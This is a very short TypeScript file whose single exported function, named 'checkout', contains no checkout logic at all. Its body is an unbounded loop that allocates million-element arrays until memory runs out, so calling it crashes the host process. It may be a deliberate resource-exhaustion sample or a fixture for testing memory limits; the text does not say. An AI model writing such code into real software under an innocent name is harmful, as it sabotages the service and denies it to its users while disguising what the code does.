export async function checkout(): Promise<void> {
  const rows: number[][] = [];
  for (;;) rows.push(new Array(1_000_000).fill(rows.length));
}
